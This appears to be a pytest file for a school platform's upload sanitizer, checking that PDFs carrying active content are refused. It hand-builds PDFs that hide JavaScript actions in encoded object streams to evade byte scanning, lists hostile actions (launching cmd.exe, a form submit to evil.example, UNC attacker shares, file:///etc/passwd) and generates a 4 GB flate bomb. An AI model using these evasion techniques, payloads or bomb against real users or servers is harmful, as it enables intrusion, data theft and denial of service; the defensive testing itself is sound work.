"""PDFs with active content are refused however they are encoded (issue 10, item 11).

The PDFs are built by hand, byte by byte, with a correct cross-reference stream, so that a
real PDF reader (and qpdf) finds the objects exactly where an attacker would hide them:
inside object streams encoded with ASCIIHex, ASCII85, Flate or a chain of them, with names
escaped as #xx. The checker must decode all of that; a regular expression over the file's
bytes (the previous checker) sees none of it.
"""

from __future__ import annotations

import base64
import io
import resource
import struct
import time
import zlib

import pikepdf
import pytest

from c2c_safety.core.uploads import AttachmentRejectedError, clean

JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned')) >>"


def _ascii_hex(data: bytes) -> bytes:
    return data.hex().upper().encode() + b">"


def _ascii85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


ENCODERS = {
    "/ASCIIHexDecode": _ascii_hex,
    "/ASCII85Decode": _ascii85,
    "/FlateDecode": zlib.compress,
}


def pdf_with_object_stream(hidden: dict[int, bytes], filters: list[str], *,
                           catalog_extra: bytes = b"") -> bytes:
    """A PDF 1.5 whose objects 1..n sit in one object stream (object n+1) encoded with
    `filters` (outermost first, as in /Filter), found through a cross-reference stream."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        **hidden,
    }
    numbers = sorted(objects)
    body = b""
    header = []
    for n in numbers:
        header.append(f"{n} {len(body)}".encode())
        body += objects[n] + b"\n"
    head = b" ".join(header) + b"\n"
    content = head + body
    for name in reversed(filters):  # the first filter listed is the last applied
        content = ENCODERS[name](content)
    objstm_no = max(numbers) + 1
    xref_no = objstm_no + 1
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    offsets[objstm_no] = len(out)
    filt = b"[" + b" ".join(f.encode() for f in filters) + b"]"
    out += (f"{objstm_no} 0 obj\n<< /Type /ObjStm /N {len(numbers)} /First {len(head)} /Length {len(content)} "
            .encode() + b"/Filter " + filt + b" >>\nstream\n" + content + b"\nendstream\nendobj\n")
    offsets[xref_no] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for n in range(1, xref_no + 1):
        if n in objects:
            rows.append(struct.pack(">BIH", 2, objstm_no, numbers.index(n)))
        elif n in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[n], 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 0))
    xref = b"".join(rows)
    out += (f"{xref_no} 0 obj\n<< /Type /XRef /Size {xref_no + 1} /W [1 4 2] /Root 1 0 R /Length {len(xref)} >>\n"
            .encode() + b"stream\n" + xref + b"\nendstream\nendobj\n")
    out += f"startxref\n{offsets[xref_no]}\n%%EOF\n".encode()
    return bytes(out)


def plain_pdf(**kwargs: object) -> bytes:
    """A small, honest one-page PDF made by pikepdf (qpdf)."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    for key, value in kwargs.items():
        pdf.Root[f"/{key}"] = value
    buf = io.BytesIO()
    pdf.save(buf)
    return buf.getvalue()


def flate_bomb(megabytes: int) -> bytes:
    """A zlib stream of `megabytes` MB of zeros, built without compressing them all: after a
    full flush every 1 MB block of zeros compresses to the same bytes, so repeat those."""
    zeros = b"\0" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    end = c.flush(zlib.Z_FINISH)
    adler = 1
    for _ in range(megabytes):
        adler = zlib.adler32(zeros, adler)
    return b"\x78\xda" + first + block * (megabytes - 1) + end + struct.pack(">I", adler)


def _refused(data: bytes) -> str:
    with pytest.raises(AttachmentRejectedError) as exc:
        clean("evidence.pdf", data)
    return exc.value.code


def test_the_hand_built_pdfs_are_real_pdfs_with_the_script_where_a_reader_finds_it():
    """Control: qpdf reads the hidden action through the object stream, and the raw bytes do
    not show it (so only a decoding checker can refuse these files)."""
    for filters in (["/ASCIIHexDecode"], ["/ASCII85Decode"], ["/ASCII85Decode", "/FlateDecode"]):
        data = pdf_with_object_stream({4: JS_ACTION}, filters, catalog_extra=b"/OpenAction 4 0 R ")
        assert b"JavaScript" not in data and b"/JS" not in data
        with pikepdf.open(io.BytesIO(data)) as pdf:
            assert str(pdf.Root.OpenAction.S) == "/JavaScript"
            assert len(pdf.pages) == 1


@pytest.mark.parametrize("filters", [["/ASCIIHexDecode"], ["/ASCII85Decode"], ["/FlateDecode"],
                                     ["/ASCII85Decode", "/FlateDecode"], ["/ASCIIHexDecode", "/ASCII85Decode"]])
def test_open_action_javascript_in_an_encoded_object_stream_is_refused(filters):
    data = pdf_with_object_stream({4: JS_ACTION}, filters, catalog_extra=b"/OpenAction 4 0 R ")
    assert _refused(data) == "pdf_active"


@pytest.mark.parametrize("hidden", [
    # name escapes inside the object stream
    b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
    # a document-level script in the names tree
    b"<< /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>",
    b"<< /S /Launch /F (cmd.exe) >>",
    b"<< /S /SubmitForm /F (https://evil.example/collect) >>",
    b"<< /S /ImportData /F (data.fdf) >>",
    b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>",
    b"<< /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>",
    b"<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>",
    b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>",
    b"<< /XFA [(template) 3 0 R] >>",
    b"<< /Type /Annot /Subtype /Widget /Rect [0 0 1 1] /AA << /E << /S /GoTo /D [3 0 R /Fit] >> >> >>",
    b"<< /S /URI /URI (javascript:app.alert(1)) >>",
    b"<< /S /URI /URI (file:///etc/passwd) >>",
    b"<< /S /URI /URI (\\\\\\\\attacker\\\\share) >>",
])
def test_every_kind_of_active_content_is_refused_inside_a_hex_object_stream(hidden):
    data = pdf_with_object_stream({4: hidden}, ["/ASCIIHexDecode"])
    assert _refused(data) == "pdf_active"


@pytest.mark.parametrize("hidden", [
    b"<< /S /URI /URI (https://www.class2class.org/help) >>",  # links are kept (a viewer asks first)
    b"<< /S /URI /URI (mailto:teacher@example.org) >>",
    b"<< /S /GoTo /D [3 0 R /Fit] >>",                          # go to a page of the same document
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (http://example.org) >> >>",
])
def test_links_and_page_jumps_are_not_active_content(hidden):
    data = pdf_with_object_stream({4: hidden}, ["/ASCII85Decode", "/FlateDecode"],
                                  catalog_extra=b"/OpenAction [3 0 R /Fit] ")
    out = clean("evidence.pdf", data)
    assert out.media_type == "application/pdf" and out.data == data  # kept byte for byte


def test_an_honest_pdf_is_kept_byte_for_byte():
    data = plain_pdf()
    out = clean("Letter.PDF", data)
    assert (out.media_type, out.filename, out.data) == ("application/pdf", "Letter.pdf", data)


def test_a_script_in_a_plain_flate_stream_is_refused():
    # Not an object stream: an ordinary stream whose decoded bytes name a script action.
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.Root.Extra = pdf.make_stream(zlib.compress(b"<< /S /JavaScript /JS (x) >>"), Filter=pikepdf.Name.FlateDecode)
    buf = io.BytesIO()
    pdf.save(buf, compress_streams=False)
    assert _refused(buf.getvalue()) == "pdf_active"


@pytest.mark.parametrize("data", [
    b"%PDF-1.7\n" + bytes(range(256)) * 40,
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n",  # no page tree
    b"%PDF-1.5\n1 0 obj << /Length 999999999 >>\nstream\nabc\nendstream\nendobj\n",
])
def test_malformed_pdfs_are_refused_not_crashing(data):
    assert _refused(data) in ("broken", "too_complex", "pdf_complex")


def test_a_flate_bomb_costs_the_sandbox_not_the_web_process():
    """4 MB of compressed zeros that inflate to 4 GB: the child hits its memory limit or the
    inspection budget; the web process neither grows nor waits long."""
    bomb = flate_bomb(4096)
    assert len(bomb) < 5 * 1024 * 1024
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.Root.Blob = pdf.make_stream(bomb, Filter=pikepdf.Name.FlateDecode)
    buf = io.BytesIO()
    pdf.save(buf, compress_streams=False)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    assert _refused(buf.getvalue()) in ("pdf_complex", "too_complex")
    assert time.monotonic() - start < 20
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024  # KB
